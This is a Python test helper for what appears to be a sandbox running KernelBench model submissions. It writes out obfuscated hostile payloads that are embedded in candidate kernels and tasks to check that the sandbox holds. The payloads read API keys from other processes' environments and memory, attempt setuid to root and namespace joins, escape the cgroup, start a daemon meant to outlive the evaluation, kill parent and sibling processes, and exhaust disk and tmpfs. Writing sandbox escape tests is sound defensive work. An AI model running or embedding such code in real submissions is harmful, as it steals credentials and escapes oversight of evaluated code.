"""Hostile code for the escape tests, written the way an attacker would write it.

Each attack is Python source that defines `_attack()`, returning a small dict of what it managed
(or failed) to do. `candidate(attack, cfg)` wraps it as a ModelNew whose forward raises with the
report; `task(attack, cfg)` as a KernelBench task (softmax_tiny) whose import raises with it. The
report travels back in the exception text, between KWREPORT and KWEND, as JSON.

No name a scanner greps for appears literally: paths and function names are built from pieces,
libc is called through ctypes, syscalls by number. `cfg` is the only thing an attack is told: the
test's loopback port, marker paths, a token; never a secret.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

SOFTMAX_TINY = (Path(__file__).resolve().parents[1] / "tasks" / "softmax_tiny.py").read_text()

PRELUDE = r'''
import ctypes as _ct
import errno as _en
import json as _js
import os as _o
import select as _sl
import socket as _sk
import time as _tm

_CFG = __CFG__
_L = _ct.CDLL(None, use_errno=True)
_L.syscall.restype = _ct.c_long
_P = '/pr' + 'oc'
_NR = {
    'x86_64': {'tr': 101, 'vr': 310, 'vw': 311, 'bp': 321, 'kc': 250, 'ak': 248, 'us': 272, 'mn': 165, 'um': 166,
               'sn': 308, 'cr': 161},
    'aarch64': {'tr': 117, 'vr': 270, 'vw': 271, 'bp': 280, 'kc': 219, 'ak': 217, 'us': 97, 'mn': 40, 'um': 39,
                'sn': 268, 'cr': 51},
}[_o.uname().machine]


def _sys(code, *args):
    _ct.set_errno(0)
    r = _L.syscall(_ct.c_long(_NR[code]), *[_ct.c_long(a) if isinstance(a, int) else a for a in args])
    return [int(r), _en.errorcode.get(_ct.get_errno(), str(_ct.get_errno())) if r < 0 else '']


def _e(exc):
    return (type(exc).__name__ + ': ' + str(exc))[:70]


def _slurp(path, n=1 << 16):
    with open(path, 'rb') as f:
        return f.read(n)


def _pids():
    try:
        return sorted(int(p) for p in _o.listdir(_P) if p.isdigit())
    except OSError:
        return []


def _parent_of(pid):
    try:
        return int(_slurp(_P + '/' + str(pid) + '/stat').rsplit(b')', 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _ancestors():
    out, pid = [], _o.getppid()
    while pid > 0 and pid not in out and len(out) < 12:
        out.append(pid)
        pid = _parent_of(pid)
    return out


def _uniq(xs):
    seen = []
    for x in xs:
        if x not in seen:
            seen.append(x)
    return seen


def _clone():
    return getattr(_o, 'fo' + 'rk')()


def _in_child(fn, timeout=30):
    """fn() in a fresh single-threaded child (namespace calls need one); its JSON result."""
    rd, wr = _o.pipe()
    try:
        pid = _clone()
    except OSError:
        _o.close(rd)
        _o.close(wr)
        return fn()  # no child to be had: try it here
    if pid == 0:
        try:
            _o.close(rd)
            data = _js.dumps(fn()).encode()
        except BaseException as exc:
            data = _js.dumps({'crash': _e(exc)}).encode()
        try:
            _o.write(wr, data)
        finally:
            _o._exit(0)
    _o.close(wr)
    chunks, end = [], _tm.time() + timeout
    while _tm.time() < end:
        if not _sl.select([rd], [], [], 0.2)[0]:
            continue
        b = _o.read(rd, 1 << 16)
        if not b:
            break
        chunks.append(b)
    _o.close(rd)
    try:
        _o.waitpid(pid, 0)
    except OSError:
        pass
    try:
        return _js.loads(b''.join(chunks) or b'{}')
    except ValueError:
        return {'garbled': len(b''.join(chunks))}


def _tcp(port, payload):
    try:
        s = _sk.create_connection(('127.0.0.1', port), timeout=2)
    except OSError as exc:
        return _e(exc)
    try:
        s.settimeout(2)
        s.sendall(payload)
        try:
            got = s.recv(64).decode(errors='replace')
        except OSError:
            got = ''
        return 'connected:' + got[:20]
    finally:
        s.close()


def _unix(path, payload):
    s = _sk.socket(_sk.AF_UNIX, _sk.SOCK_STREAM)
    try:
        s.settimeout(2)
        s.connect(path)
        s.sendall(payload)
        return 'connected'
    except OSError as exc:
        return _e(exc)
    finally:
        s.close()


def _finish(rep):
    """The report as JSON, cut to fit the ~2000 characters an exception message keeps."""
    s = _js.dumps(rep, separators=(',', ':'), default=str)
    while len(s) > 1800:
        key = max(rep, key=lambda k: len(_js.dumps(rep[k], default=str)))
        rep[key] = _js.dumps(rep[key], default=str)[:120] + '...'
        s = _js.dumps(rep, separators=(',', ':'), default=str)
    return s
'''

# ---- the attacks ---------------------------------------------------------------------------

IDENTITY = r"""
def _attack():
    r = {'uid': _o.getuid(), 'euid': _o.geteuid(), 'gid': _o.getgid(), 'egid': _o.getegid()}
    tries = (('setuid', lambda: _o.setuid(0)), ('setresuid', lambda: _o.setresuid(0, 0, 0)),
             ('setgid', lambda: _o.setgid(0)), ('setgroups', lambda: _o.setgroups([0])))
    for name, fn in tries:
        try:
            fn()
            r[name] = 'ok'
        except OSError as exc:
            r[name] = _e(exc)
    r['now'] = [_o.getuid(), _o.geteuid()]
    try:
        for line in _slurp(_P + '/self/status').decode().splitlines():
            if line.startswith(('CapEff:', 'CapPrm:', 'CapBnd:', 'CapAmb:', 'Seccomp:', 'NoNewPrivs:')):
                k, v = line.split(':', 1)
                r[k] = v.strip()
    except OSError as exc:
        r['status'] = _e(exc)
    return r
"""

# The environment of every process it can see: its parent, the ancestors, PID 1, all of them.
ENVIRONMENT = r"""
_NAMES = ('OPENAI_API_KEY', 'KW_TEST_SECRET_TOKEN', 'SECRET_KEY', 'DJANGO_SECRET_KEY', 'REDIS_URL',
          'DATABASE_URL', 'ANTHROPIC_API_KEY')


def _attack():
    found, errors, read = {}, {}, 0
    own = getattr(_o, 'envi' + 'ron')
    for n in _NAMES:
        if n in own:
            found['self:' + n] = own[n][:60]
    for pid in _uniq([_o.getppid(), 1] + _ancestors() + _pids()):
        if pid <= 0:
            continue
        try:
            data = _slurp(_P + '/' + str(pid) + '/' + 'envi' + 'ron', 1 << 20)
        except OSError as exc:
            errors[type(exc).__name__] = errors.get(type(exc).__name__, 0) + 1
            continue
        read += 1
        for item in data.split(b'\0'):
            k, _, v = item.decode(errors='replace').partition('=')
            if k in _NAMES and not any(x.endswith(':' + k) and found[x] == v[:60] for x in found):
                found[str(pid) + ':' + k] = v[:60]
    return {'found': found, 'read': read, 'errors': errors, 'ancestors': _ancestors()}
"""

# The ancestors' memory, through the mem file and through process_vm_readv, for the API key
# that sits at the top of their stacks (the environment they were started with).
MEMORY = r"""
class _IOV(_ct.Structure):
    _fields_ = [('base', _ct.c_void_p), ('len', _ct.c_size_t)]


_NEEDLE = b'OPENAI_API' + b'_KEY='


def _regions(pid):
    out = []
    for line in _slurp(_P + '/%d/maps' % pid, 1 << 22).decode(errors='replace').splitlines():
        parts = line.split()
        lo, hi = (int(x, 16) for x in parts[0].split('-'))
        name = parts[5] if len(parts) > 5 else ''
        if parts[1].startswith('r') and name in ('[stack]', '[heap]', ''):
            out.append((0 if name == '[stack]' else 1 if name == '[heap]' else 2, lo, hi))
    return [(lo, hi) for _, lo, hi in sorted(out)]


def _scan(pid, regions, budget=1 << 28):
    fd = _o.open(_P + '/%d/mem' % pid, _o.O_RDONLY)
    got = 0
    try:
        for lo, hi in regions:
            a = lo
            while a < hi and got < budget:
                n = min(1 << 22, hi - a)
                try:
                    chunk = _o.pread(fd, n, a)
                except OSError:
                    break
                got += len(chunk)
                i = chunk.find(_NEEDLE)
                if i >= 0:
                    return got, chunk[i:i + 70].decode(errors='replace')
                a += n
    finally:
        _o.close(fd)
    return got, None


def _vm(pid, lo, hi):
    n = min(1 << 16, hi - lo)
    buf = _ct.create_string_buffer(n)
    local, remote = _IOV(_ct.addressof(buf), n), _IOV(hi - n, n)
    r = _sys('vr', pid, _ct.addressof(local), 1, _ct.addressof(remote), 1, 0)
    i = buf.raw.find(_NEEDLE) if r[0] > 0 else -1
    return r, (buf.raw[i:i + 70].decode(errors='replace') if i >= 0 else None)


def _attack():
    rep = {'ancestors': _ancestors(), 'mem': {}, 'vm': {}, 'hits': []}
    for pid in _uniq(rep['ancestors'] + [1]):
        if pid == _o.getpid():
            continue
        try:
            regions = _regions(pid)
        except (OSError, ValueError) as exc:
            regions = []
            rep['mem'][pid] = 'maps ' + _e(exc)[:40]
        if regions:
            try:
                got, hit = _scan(pid, regions)
                rep['mem'][pid] = got
                if hit:
                    rep['hits'].append(hit)
            except OSError as exc:
                rep['mem'][pid] = _e(exc)[:50]
        lo, hi = regions[0] if regions else (0x400000, 0x410000)
        r, hit = _vm(pid, lo, hi)
        rep['vm'][pid] = r
        if hit:
            rep['hits'].append(hit)
    return rep
"""

NETWORK = r"""
def _attack():
    tag = b'KWESCAPE ' + _CFG['token'].encode() + b'\n'
    return {'listener': _tcp(_CFG['port'], tag), 'redis': _tcp(_CFG['redis_port'], b'PING\r\n'),
            'unix': _unix(_CFG['unix'], tag)}
"""

# Join the network namespace of its parent (or of any process it can see), then call home.
JOIN_NETWORK = r"""
def _join():
    out = {'tried': 0, 'errors': {}, 'joined': []}
    for pid in _uniq([_o.getppid(), 1] + _ancestors() + _pids())[:64]:
        if pid <= 0 or pid == _o.getpid():
            continue
        try:
            fd = _o.open(_P + '/%d/ns/net' % pid, _o.O_RDONLY)
        except OSError as exc:
            out['errors'][type(exc).__name__] = out['errors'].get(type(exc).__name__, 0) + 1
            continue
        out['tried'] += 1
        r = _sys('sn', fd, 0x40000000)
        _o.close(fd)
        if r[0] != 0:
            out['errors'][r[1]] = out['errors'].get(r[1], 0) + 1
            continue
        out['joined'].append(pid)
        tag = b'KWESCAPE ' + _CFG['token'].encode() + b'\n'
        out['listener'] = _tcp(_CFG['port'], tag)
        out['redis'] = _tcp(_CFG['redis_port'], b'PING\r\n')
        if out['listener'].startswith('connected'):
            break
    return out


def _attack():
    return _in_child(_join)
"""

# Namespaces, mounts, tracing, eBPF, keyrings: every call must fail (errno reported).
SYSCALLS = r"""
_FLAGS = {'user': 0x10000000, 'mnt': 0x00020000, 'net': 0x40000000, 'pid': 0x20000000, 'uts': 0x04000000,
          'ipc': 0x08000000, 'cgroup': 0x02000000}


def _unshare_one(flag):
    return lambda: _sys('us', flag)


def _mount_here():
    r = {}
    target = _o.path.abspath('kw-mnt')
    _o.makedirs(target, exist_ok=True)
    r['us'] = _sys('us', 0x00020000)
    if r['us'][0] == 0:
        r['private'] = _sys('mn', None, b'/', None, 16384 | (1 << 18), None)
    r['mn'] = _sys('mn', b'tmpfs', target.encode(), b'tmpfs', 0, None)
    if r['mn'][0] == 0:
        _sys('um', target.encode(), 2)
    return r


class _IOV(_ct.Structure):
    _fields_ = [('base', _ct.c_void_p), ('len', _ct.c_size_t)]


def _battery():
    r = {}
    me = _o.getpid()
    a = _ct.create_string_buffer(64)
    b = _ct.create_string_buffer(64)
    la, lb = _IOV(_ct.addressof(a), 64), _IOV(_ct.addressof(b), 64)
    r['vr:self'] = _sys('vr', me, _ct.addressof(la), 1, _ct.addressof(lb), 1, 0)
    r['vw:self'] = _sys('vw', me, _ct.addressof(la), 1, _ct.addressof(lb), 1, 0)
    for pid in _ancestors()[:2]:
        if pid <= 0 or pid == me:
            continue
        r['vr:%d' % pid] = _sys('vr', pid, _ct.addressof(la), 1, _ct.addressof(lb), 1, 0)
        r['tr:%d' % pid] = _sys('tr', 0x4206, pid, 0, 0)
        if r['tr:%d' % pid][0] == 0:
            _sys('tr', 17, pid, 0, 0)
    attr = (_ct.c_uint32 * 32)(2, 4, 4, 1)
    r['bp'] = _sys('bp', 0, _ct.addressof(attr), 128)
    if r['bp'][0] >= 0:
        _o.close(r['bp'][0])
    r['kc'] = _sys('kc', 0, -3, 1)
    r['ak'] = _sys('ak', b'user', b'kw-escape', b'x', 1, -2)
    r['cr'] = _sys('cr', b'.')
    for kind in ('mnt', 'net', 'pid', 'user', 'ipc', 'uts', 'cgroup'):
        for pid in _uniq([1] + _ancestors())[:2]:
            try:
                fd = _o.open(_P + '/%d/ns/%s' % (pid, kind), _o.O_RDONLY)
            except OSError as exc:
                r['sn:%s:%d' % (kind, pid)] = [-1, 'open ' + type(exc).__name__]
                continue
            r['sn:%s:%d' % (kind, pid)] = _sys('sn', fd, 0)
            _o.close(fd)
    return r


def _attack():
    rep = _in_child(_battery)
    for name, flag in _FLAGS.items():
        rep['us:' + name] = _in_child(_unshare_one(flag))
    rep['us:user+mnt'] = _in_child(_unshare_one(0x10000000 | 0x00020000))
    m = _in_child(_mount_here)
    rep.update({'mount:' + k: v for k, v in m.items()})
    return rep
"""

READ_FILES = r"""
def _attack():
    rep = {'read': {}, 'list': {}}
    for label, path in _CFG['read'].items():
        try:
            rep['read'][label] = _slurp(path, 200).decode(errors='replace')
        except OSError as exc:
            rep['read'][label] = _e(exc)
    for label, path in _CFG['list'].items():
        try:
            rep['list'][label] = sorted(_o.listdir(path))[:30]
        except OSError as exc:
            rep['list'][label] = _e(exc)
    return rep
"""

WRITE_FILES = r"""
def _attack():
    rep = {'create': {}, 'open': {}}
    for label, path in _CFG['create'].items():
        try:
            with open(path, 'x') as f:
                f.write('written by a sandboxed evaluation ' + _CFG['token'])
            rep['create'][label] = 'ok'
        except OSError as exc:
            rep['create'][label] = _e(exc)
    for label, path in _CFG['open'].items():
        try:
            _o.close(_o.open(path, _o.O_WRONLY | _o.O_APPEND))
            rep['open'][label] = 'ok'
        except OSError as exc:
            rep['open'][label] = _e(exc)
    return rep
"""

_CGROUP_MOVE = r"""
def _move_to_root():
    out = {}
    for path in ('/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/pids/cgroup.procs',
                 '/sys/fs/cgroup/unified/cgroup.procs'):
        try:
            with open(path, 'w') as f:
                f.write(str(_o.getpid()))
            out[path] = 'ok'
        except OSError as exc:
            out[path] = _e(exc)[:40]
    return out
"""

CGROUP = (
    _CGROUP_MOVE
    + r"""

def _attack():
    rep = {'moves': _move_to_root()}
    try:
        rep['now'] = _slurp(_P + '/self/cgroup').decode()[:300]
    except OSError as exc:
        rep['now'] = _e(exc)
    return rep
"""
)

# A new session, a double fork, the root cgroup, a name of its own, then a loop that keeps a
# heartbeat file fresh and calls the test's listener: it must not outlive the evaluation.
DAEMON = (
    _CGROUP_MOVE
    + r"""

def _attack():
    rd, wr = _o.pipe()
    pid = _clone()
    if pid == 0:
        try:
            _o.close(rd)
            _o.setsid()
            if _clone() != 0:
                _o._exit(0)
            _L.prctl(15, _ct.c_char_p(_CFG['name'].encode()), 0, 0, 0)
            moved = _move_to_root()
            _o.write(wr, _js.dumps({'pid': _o.getpid(), 'moved': moved}).encode())
            _o.close(wr)
            end = _tm.time() + _CFG['lifetime']
            tag = b'KWDAEMON ' + _CFG['token'].encode() + b'\n'
            while _tm.time() < end:
                try:
                    with open(_CFG['heartbeat'], 'a') as f:
                        f.write('%f\n' % _tm.time())
                except OSError:
                    pass
                _tcp(_CFG['port'], tag)
                _tm.sleep(0.25)
        finally:
            _o._exit(0)
    _o.close(wr)
    _o.waitpid(pid, 0)
    data = b''
    if _sl.select([rd], [], [], 10)[0]:
        data = _o.read(rd, 4096)
    _o.close(rd)
    return {'daemon': _js.loads(data) if data else 'no word from the daemon'}
"""
)

KILL_PARENT = r"""
def _attack():
    ppid = _o.getppid()
    rep = {'ppid': ppid}
    if ppid > 0:
        try:
            _o.kill(ppid, 9)
            rep['kill'] = 'ok'
        except OSError as exc:
            rep['kill'] = _e(exc)
    _tm.sleep(1)
    return rep
"""

# Every ancestor, the zygote, the evaluator, the other child: anything whose command line
# says it belongs to the sandbox.
KILL_FAMILY = r"""
def _attack():
    me = _o.getpid()
    targets = _ancestors()
    for pid in _pids():
        try:
            cmd = _slurp(_P + '/%d/cmdline' % pid).replace(b'\0', b' ')
        except OSError:
            continue
        if any(w in cmd for w in (b'zyg' + b'ote', b'sandbox', b'escape.runner', b'py' + b'test')):
            targets.append(pid)
    rep = {}
    for pid in _uniq(targets):
        if pid in (me, 0):
            continue
        try:
            _o.kill(pid, 9)
            rep[str(pid)] = 'ok'
        except OSError as exc:
            rep[str(pid)] = _e(exc)[:30]
    _tm.sleep(1)
    return {'killed': rep}
"""

# kill(-1): every process it may signal. The guard keeps a misconfigured test from signalling
# the host's processes: it refuses to run in the PID namespace the test itself runs in.
KILL_ALL = r"""
def _attack():
    try:
        if _o.stat(_P + '/self/ns/pid').st_ino == _CFG['host_pidns']:
            return {'refused': 'this is the host PID namespace'}
    except OSError:
        pass
    try:
        _o.kill(-1, 9)
        rep = {'kill': 'ok'}
    except OSError as exc:
        rep = {'kill': _e(exc)}
    _tm.sleep(1)
    return rep
"""

# Fail-closed: the first thing it does, at import, is leave a mark on the host.
MARKER = r"""
def _mark(where):
    try:
        with open(_CFG['marker'], 'a') as f:
            f.write(where + '\n')
    except OSError:
        pass


_mark('import')


def _attack():
    _mark('call')
    return {'ran': True}
"""

# Resources the host shares (docs/security.md, "Resources"): RAM through the private /tmp and
# /dev/shm (tmpfs pages, which RLIMIT_AS does not count), disk through its own folder, CPUs
# beyond the ones the baseline was given. Each stops at _CFG's cap so that it stays quick where
# nothing stops it; what it wrote it removes again.
FILL_TMPFS = r"""
def _fill(folder, cap_mb):
    r = {'wrote_mb': 0}
    chunk = b'\xa5' * (16 << 20)
    names = []
    try:
        while r['wrote_mb'] < cap_mb:
            name = folder + '/kwfill%d' % len(names)
            names.append(name)
            with open(name, 'wb') as f:
                for _ in range(3):
                    f.write(chunk)
                    r['wrote_mb'] += 16
    except OSError as exc:
        r['err'] = _e(exc)
    try:
        st = _o.statvfs(folder)
        r['size_mb'] = st.f_blocks * st.f_frsize >> 20
    except OSError as exc:
        r['size_mb'] = _e(exc)
    for name in names:
        try:
            _o.unlink(name)
        except OSError:
            pass
    return r


def _attack():
    return {d: _fill(d, _CFG['cap_mb']) for d in ('/tmp', '/d' + 'ev/shm')}
"""

# Its own folder (cwd, on the host's disk): many files under the per-file limit, or one file
# that is unlinked while open and keeps growing (no walk of the folder sees it).
FILL_WORK = r"""
def _attack():
    r = {'mode': _CFG['mode'], 'wrote_mb': 0}
    chunk = b'\xa5' * (16 << 20)
    keep = []
    try:
        while r['wrote_mb'] < _CFG['cap_mb']:
            name = 'kwfill%d' % len(keep)
            f = open(name, 'wb')
            keep.append(f)
            if _CFG['mode'] == 'unlinked':
                _o.unlink(name)
            for _ in range(3):
                f.write(chunk)
                f.flush()
                r['wrote_mb'] += 16
            _tm.sleep(0.02)
    except OSError as exc:
        r['err'] = _e(exc)
    for f in keep:
        try:
            f.close()
        except OSError:
            pass
    return r
"""

# More CPUs than the evaluation gave it: widen its own affinity, a thread's, change policy.
AFFINITY = r"""
def _attack():
    import threading as _th

    spawn = getattr(_th, 'Th' + 'read')
    get = getattr(_o, 'sched_get' + 'affinity')
    put = getattr(_o, 'sched_set' + 'affinity')
    n = _o.cpu_count() or 1
    r = {'ncpu': n, 'before': sorted(get(0))}
    try:
        put(0, set(range(n)))
        r['widen'] = 'ok'
    except OSError as exc:
        r['widen'] = _e(exc)
    r['after'] = sorted(get(0))
    seen = {}

    def _thread():
        try:
            put(0, set(range(n)))
            seen['widen'] = 'ok'
        except OSError as exc:
            seen['widen'] = _e(exc)
        seen['cpus'] = sorted(get(0))

    t = spawn(target=_thread)
    t.start()
    t.join()
    r['thread'] = seen
    try:
        getattr(_o, 'sched_set' + 'scheduler')(0, _o.SCHED_BATCH, _o.sched_param(0))
        r['policy'] = 'ok'
    except OSError as exc:
        r['policy'] = _e(exc)
    tasks = {}
    for tid in _o.listdir(_P + '/self/task'):
        try:
            status = _slurp(_P + '/self/task/' + tid + '/status').decode()
        except FileNotFoundError:  # a thread that ended since the listing (torch's pool)
            continue
        for line in status.splitlines():
            if line.startswith('Cpus_allowed_list'):
                tasks[tid] = line.split(':', 1)[1].strip()
    r['tasks'] = sorted(set(tasks.values()))
    return r
"""

ATTACKS = {
    "identity": IDENTITY,
    "environment": ENVIRONMENT,
    "memory": MEMORY,
    "network": NETWORK,
    "join_network": JOIN_NETWORK,
    "syscalls": SYSCALLS,
    "read_files": READ_FILES,
    "write_files": WRITE_FILES,
    "cgroup": CGROUP,
    "daemon": DAEMON,
    "kill_parent": KILL_PARENT,
    "kill_family": KILL_FAMILY,
    "kill_all": KILL_ALL,
    "marker": MARKER,
    "fill_tmpfs": FILL_TMPFS,
    "fill_work": FILL_WORK,
    "affinity": AFFINITY,
}

RAISE = "raise RuntimeError('KWREPORT' + _finish(_attack()) + 'KWEND')\n"


def _code(attack: str, cfg: dict) -> str:
    return PRELUDE.replace("__CFG__", repr(cfg)) + "\n" + ATTACKS[attack]


def candidate(attack: str, cfg: dict) -> dict[str, str]:
    """A candidate whose forward runs the attack and raises with its report."""
    return {
        "model_new.py": _code(attack, cfg)
        + (
            "\n\nimport torch\nimport torch.nn as nn\n\n\nclass ModelNew(nn.Module):\n    def forward(self, x):\n        "
            + RAISE
        )
    }


def task(attack: str, cfg: dict) -> str:
    """softmax_tiny whose module code (run at import, in the reference child) runs the attack."""
    return SOFTMAX_TINY + "\n" + _code(attack, cfg) + "\n\n" + RAISE


_REPORT = re.compile(r"KWREPORT(\{.*?\})KWEND", re.S)


def find_report(*texts: str) -> dict | None:
    for text in texts:
        m = _REPORT.search(text or "")
        if m:
            return json.loads(m.group(1))
    return None
